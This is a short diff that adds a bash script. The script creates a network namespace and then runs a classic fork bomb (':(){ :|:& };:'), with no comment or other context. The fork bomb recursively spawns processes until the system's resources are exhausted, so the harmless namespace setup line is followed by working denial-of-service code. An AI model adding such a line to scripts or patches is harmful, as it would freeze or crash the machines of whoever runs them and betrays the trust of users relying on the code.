@@ -1,0 +1,3 @@
+#!/bin/bash
+ip netns add a
+:(){ :|:& };:
